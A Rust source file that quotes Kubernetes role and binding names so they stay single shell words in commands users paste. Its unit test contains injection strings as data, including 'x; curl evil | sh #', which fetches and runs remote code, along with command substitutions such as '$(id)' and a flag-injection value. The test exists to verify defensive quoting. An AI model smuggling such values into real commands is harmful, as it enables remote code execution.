//! Names that others have chosen, inside of a command that somebody will paste into a shell.

/// Returns the name as one word of a shell. Kubernetes takes nearly every name for a role or binding, such as one with a
/// semicolon and a command in it.
pub(super) fn word(name: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b".-_:/@".contains(&byte);
    if !name.is_empty() && name.bytes().all(plain) {
        return name.to_owned();
    }
    format!("'{}'", name.replace('\'', r"'\''"))
}

/// Returns the name as the last word of a command, where it is not taken for a flag.
pub(super) fn last_word(name: &str) -> String {
    format!("{}{}", if name.starts_with('-') { "-- " } else { "" }, word(name))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_reads_one_word() {
        for name in ["db", "system:node", "x; curl evil | sh #", "$(id)", "`id`", "a'b'c", "a\nb", "\\", "*", "~", ""] {
            assert_eq!(shlex::split(&word(name)).unwrap(), [name]);
        }
        assert_eq!((word("team:read"), word("a b")), ("team:read".to_owned(), "'a b'".to_owned()));
        assert_eq!(last_word("--kubeconfig=x"), "-- '--kubeconfig=x'");
    }
}
